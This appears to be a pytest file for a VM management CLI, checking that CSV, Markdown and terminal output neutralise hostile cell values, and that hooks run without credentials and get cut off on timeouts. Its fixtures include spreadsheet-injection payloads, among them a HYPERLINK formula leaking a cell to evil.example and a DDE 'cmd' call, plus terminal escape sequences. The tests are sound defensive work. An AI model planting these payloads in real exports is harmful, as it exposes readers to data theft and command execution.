"""Output and process hygiene (issue 10): what vmctl prints cannot be turned against the reader
(CSV formulas, Markdown structure, terminal control sequences), hooks get no credentials and
cannot flood the journal or outlive a second Ctrl-C, and the simulator's token endpoints ask for
the headers Azure's do."""

from __future__ import annotations

import csv
import io
import json
import os
import ssl
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from conftest import SUB_A, SimHandle, poll_until
from vmctl.cli import app
from vmctl.models import Vm

runner = CliRunner()

NASTY = {
    "owner": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "cost": "-3",
    "note": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "dash": "-2+3",
    "md": "line one\r\n# heading | injected\nthird",
    "esc": "ok\x1b[2J\x1b]0;owned\x07end",
}


def nasty_fleet() -> dict[str, Any]:
    return {"tenant_id": "11111111-0000-0000-0000-000000000000",
            "time": {"lro_seconds": {"start": 0.1}, "activity_log_delay_seconds": 0},
            "subscriptions": [{"id": SUB_A, "name": "hygiene", "resource_groups": [
                {"name": "rg-h", "vms": [{"name": "=evil-01", "tags": {"env": "dev", **NASTY}}]}]}]}


# ----------------------------------------------------------------------------- CSV, Markdown, terminal
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(make_sim: Any) -> None:
    sim = make_sim(nasty_fleet())
    r = runner.invoke(app, ["list", "-o", "csv", "--show-tags", "owner,cost,note,at,dash"])
    assert r.exit_code == 0, r.output
    rows = list(csv.reader(io.StringIO(r.stdout)))
    header, row = rows[0], rows[1]
    cell = dict(zip(header, row))
    assert cell["NAME"] == "'=evil-01"
    assert cell["TAG:owner"] == "'" + NASTY["owner"]
    assert cell["TAG:note"] == "'" + NASTY["note"] and cell["TAG:at"] == "'" + NASTY["at"]
    assert cell["TAG:dash"] == "'-2+3"            # a formula, although it starts like a number
    assert cell["TAG:cost"] == "-3"               # a plain negative number stays a number
    assert not any(c.startswith(("=", "+", "@")) for c in row)
    assert sim.stats()["writes"] == 0


def test_csv_cell_rules() -> None:
    from vmctl.render import csv_cell

    assert [csv_cell(v) for v in ("=1+1", "+1", "@x", "\t=1", "\r=1", "-x", "-1e3", "-", "-0.5", "-12", "a=b", "", 5)] == \
        ["'=1+1", "'+1", "'@x", "'\t=1", "'\r=1", "'-x", "'-1e3", "-", "-0.5", "-12", "a=b", "", "5"]


def test_markdown_and_terminal_output_keep_their_shape(make_sim: Any) -> None:
    make_sim(nasty_fleet())
    md = runner.invoke(app, ["list", "-o", "markdown", "--show-tags", "md,esc"])
    assert md.exit_code == 0, md.output
    table = [line for line in md.stdout.splitlines() if line.startswith("|")]
    assert len(table) == 3                                         # header, rule, one VM: no row was split
    assert not any(line.lstrip().startswith("#") for line in md.stdout.splitlines())
    assert "line one # heading \\| injected third" in md.stdout
    assert "\r" not in md.stdout and "\x1b" not in md.stdout
    plain = runner.invoke(app, ["list", "--show-tags", "esc"])    # the table renderer, not on a terminal
    assert plain.exit_code == 0, plain.output
    assert "\x1b" not in plain.stdout and "\x07" not in plain.stdout
    assert "ok\\x1b[2J\\x1b]0;owned\\x07end" in plain.stdout      # shown, not obeyed


def test_md_escape() -> None:
    from vmctl.render import md_escape

    assert md_escape("CHG-1\n# pwned | x") == "CHG-1 # pwned \\| x"
    assert md_escape("# top") == "\\# top" and md_escape("  ## two") == "  \\## two"
    assert md_escape("a\r\nb\rc\u2028d") == "a b c d" and md_escape("C#") == "C#"


def _journal_with_ticket(path: Path, ticket: str) -> None:
    from vmctl.planner import Options, build_plan, plan_json

    vm = Vm(subscription_id=SUB_A, subscription_name="s", resource_group="rg", name="a", location="x",
            id=f"/subscriptions/{SUB_A}/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/a",
            tags={}, power_state="deallocated")
    plan = build_plan("start", [vm], Options(ticket=ticket))
    records = [{"ts": "2026-01-01T00:00:00Z", "type": "run", "runId": plan.run_id, "command": "vmctl start"},
               {"ts": "2026-01-01T00:00:00Z", "type": "plan", "plan": plan_json(plan)},
               {"ts": "2026-01-01T00:00:01Z", "type": "end", "interrupted": False}]
    path.write_text("".join(json.dumps(r) + "\n" for r in records))


def test_ticket_cannot_restructure_the_markdown_report(tmp_path: Path) -> None:
    j = tmp_path / "j.jsonl"
    _journal_with_ticket(j, "CHG-1\n# pwned | x")
    r = runner.invoke(app, ["report", str(j), "-o", "markdown"])
    assert r.exit_code == 0, r.output
    lines = r.stdout.splitlines()
    assert lines[0].startswith("## vmctl start: run ") and "CHG-1 # pwned \\| x" in lines[0]
    assert not any(line.startswith("# pwned") for line in lines)


# ----------------------------------------------------------------------------- hooks
VM = Vm(subscription_id=SUB_A, subscription_name="s", resource_group="rg-web", name="web-01", location="x",
        id=f"/subscriptions/{SUB_A}/resourceGroups/rg-web/providers/Microsoft.Compute/virtualMachines/web-01", tags={})


def test_hooks_get_an_allow_listed_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    from vmctl.hooks import run_hook

    for k, v in {"ARM_CLIENT_SECRET": "arm-s3cret", "AZURE_CLIENT_SECRET": "az-s3cret", "AZURE_CLIENT_ID": "id",
                 "IDENTITY_HEADER": "hdr-s3cret", "GITHUB_TOKEN": "gh-s3cret", "VMCTL_ARM_ENDPOINT": "https://x",
                 "LC_TIME": "C", "TZ": "UTC", "HTTPS_PROXY": "http://proxy:3128"}.items():
        monkeypatch.setenv(k, v)
    res = run_hook("env", VM, "restart", "pre", 10, extra_env=("HTTPS_PROXY", "NOT_SET_ANYWHERE"))
    assert res.ok, res
    env = dict(line.split("=", 1) for line in res.output.splitlines() if "=" in line)
    assert "s3cret" not in res.output and not any(k.startswith(("AZURE_", "ARM_")) for k in env)
    assert "VMCTL_ARM_ENDPOINT" not in env and "NOT_SET_ANYWHERE" not in env
    assert env["HTTPS_PROXY"] == "http://proxy:3128" and env["LC_TIME"] == "C" and env["TZ"] == "UTC"
    assert env["PATH"] == os.environ["PATH"] and env["HOME"] == os.environ["HOME"]
    assert {k: env[k] for k in env if k.startswith("VMCTL_")} == {
        "VMCTL_VM_NAME": "web-01", "VMCTL_VM_ID": VM.id, "VMCTL_RESOURCE_GROUP": "rg-web",
        "VMCTL_SUBSCRIPTION": SUB_A, "VMCTL_ACTION": "restart", "VMCTL_HOOK_PHASE": "pre"}


def test_hook_output_is_capped_head_and_tail(tmp_path: Path) -> None:
    from vmctl.hooks import HEAD_BYTES, TAIL_BYTES, run_hook

    script = tmp_path / "loud.sh"
    script.write_text("#!/bin/sh\necho first line\nhead -c 20000000 /dev/zero | tr '\\0' x\necho\n"
                      "echo 'drain failed: 3 sessions left' >&2\nexit 4\n")
    script.chmod(0o755)
    res = run_hook(str(script), VM, "deallocate", "pre", 60)
    assert not res.ok and res.returncode == 4
    assert res.output_bytes == len("first line\n") + 20_000_000 + 1 + len("drain failed: 3 sessions left\n")
    assert res.truncated and len(res.output.encode()) < HEAD_BYTES + TAIL_BYTES + 200
    assert res.output.startswith("first line\n") and res.output.endswith("drain failed: 3 sessions left")
    assert "bytes of hook output omitted" in res.output
    assert res.reason.startswith("pre-hook exited 4: ") and res.reason.endswith("drain failed: 3 sessions left")
    assert len(res.reason) < 400
    small = run_hook("echo ok", VM, "start", "post", 10)
    assert small.ok and small.output == "ok" and small.output_bytes == 3 and not small.truncated


def _gone(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as fh:
            return fh.read().split(") ", 1)[1].startswith("Z")   # a zombie no one reaped yet
    except FileNotFoundError:
        return True


def test_a_second_interrupt_stops_a_running_hook_and_its_children(tmp_path: Path) -> None:
    from vmctl.hooks import run_hook

    marker = tmp_path / "child.pid"
    cancel = threading.Event()
    out: list[Any] = []
    cmd = f"echo draining; sleep 60 & echo $! > {marker}; wait"
    t = threading.Thread(target=lambda: out.append(run_hook(cmd, VM, "deallocate", "pre", 30, cancel=cancel)))
    started = time.monotonic()
    t.start()
    child = int(poll_until(lambda: marker.exists() and marker.read_text().strip(), timeout=10))
    cancel.set()
    t.join(15)
    assert not t.is_alive() and time.monotonic() - started < 10
    res = out[0]
    assert not res.ok and res.returncode is None
    assert res.reason == "pre-hook stopped by a second interrupt: draining" and res.output == "draining"
    assert poll_until(lambda: _gone(child), timeout=5)                  # the whole process group went


def test_hook_timeout_terminates_gracefully_then_kills(tmp_path: Path) -> None:
    from vmctl.hooks import KILL_GRACE, run_hook

    # SIGTERM first: a drain script gets to clean up and say so
    res = run_hook("trap 'echo cleaning up; exit 5' TERM; echo started; sleep 30 & wait", VM, "start", "post", 0.3)
    assert not res.ok and res.returncode is None
    assert res.reason == "post-hook timed out after 0.3 s: started / cleaning up"
    # SIGKILL KILL_GRACE seconds later for one that ignores SIGTERM
    started = time.monotonic()
    res = run_hook("trap '' TERM; echo stubborn; sleep 30", VM, "start", "post", 0.3)
    took = time.monotonic() - started
    assert not res.ok and res.returncode is None and res.reason == "post-hook timed out after 0.3 s: stubborn"
    assert KILL_GRACE <= took < 0.3 + KILL_GRACE + 2


# ----------------------------------------------------------------------------- simulator identity
def _get(sim: SimHandle, path: str, headers: dict[str, str]) -> tuple[int, dict[str, Any]]:
    ctx = ssl.create_default_context(cafile=str(sim.sim.ca_path))
    req = urllib.request.Request(sim.url + path, headers=headers)
    try:
        with urllib.request.urlopen(req, context=ctx, timeout=10) as resp:
            return resp.status, json.loads(resp.read())
    except urllib.error.HTTPError as exc:
        return exc.code, json.loads(exc.read() or b"{}")


def test_token_endpoints_require_the_identity_headers(sim: SimHandle) -> None:
    imds = "/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"
    assert _get(sim, imds, {})[0] == 400
    assert _get(sim, imds, {"Metadata": "false"})[0] == 400
    status, body = _get(sim, imds, {"Metadata": "true", "X-Forwarded-For": "203.0.113.7"})
    assert status == 400 and body["error"] == "invalid_request"          # IMDS refuses forwarded requests
    status, body = _get(sim, imds, {"Metadata": "true"})
    assert status == 200 and body["token_type"] == "Bearer"
    msi = "/msi/token?api-version=2019-08-01&resource=https://management.azure.com/"
    assert _get(sim, msi, {})[0] == 401
    assert _get(sim, msi, {"X-IDENTITY-HEADER": "guess"})[0] == 401
    assert _get(sim, msi, {"X-IDENTITY-HEADER": sim.env["IDENTITY_HEADER"]})[0] == 200
    assert sim.stats()["writes"] == 0
